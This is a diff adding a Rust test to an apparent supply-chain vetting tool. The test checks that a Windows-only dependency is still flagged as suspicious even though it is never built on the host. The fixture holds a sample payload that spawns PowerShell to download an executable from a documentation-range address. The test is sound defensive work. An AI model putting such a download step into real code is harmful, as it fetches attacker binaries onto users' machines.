@@ -500,3 +500,44 @@ fn a_suspicious_dependency_is_judged_on_its_own_and_fails_the_workspace() {
         run.stderr
     );
 }
+
+#[test]
+fn a_dependency_of_other_platforms_only_is_read_though_it_cannot_run_here() {
+    let f = workspace("vet_ws_other_platform", &[]);
+    // The payload of a crate used only on Windows: never compiled on this host, still in its
+    // source. (The address is documentation's; nothing here runs it.)
+    let payload = "pub fn init() {\n    let _ = std::process::Command::new(\"powershell\")\n        .args([\"-Command\", \"iwr http://203.0.113.7:8443/p.exe -OutFile p.exe\"])\n        .spawn();\n}\n";
+    f.publish("win-helper", "0.1.3", "", &[("src/lib.rs", payload)]);
+    std::fs::write(
+        f.scene.path("ws/Cargo.toml"),
+        "[package]\nname = \"my-app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n\
+         [target.'cfg(windows)'.dependencies]\n\
+         win-helper = { version = \"0.1\", registry = \"fixtures\" }\n",
+    )
+    .unwrap();
+
+    let run = vet_ws(
+        &f,
+        "report",
+        &["--phases", "provenance,inventory,build,load"],
+    );
+    run.expect_code(1);
+    assert_eq!(vetted(&run), [("win-helper".to_owned(), false)]);
+    assert_eq!(run.report["verdict"]["crates"][0]["verdict"], "suspicious");
+    assert_eq!(run.report["inventory"][0]["name"], "win-helper");
+    for phase in ["build", "load"] {
+        let record = run.phase(phase);
+        assert_eq!(record["status"], "skipped", "{phase}: {record:#}");
+        assert!(
+            record["reason"]
+                .as_str()
+                .unwrap()
+                .contains("other platforms only"),
+            "{phase}: {record:#}"
+        );
+    }
+    // Nothing of it was built.
+    assert!(run.report["crates"]
+        .as_array()
+        .is_none_or(|cs| cs.iter().all(|c| c["name"] != "win-helper")));
+}
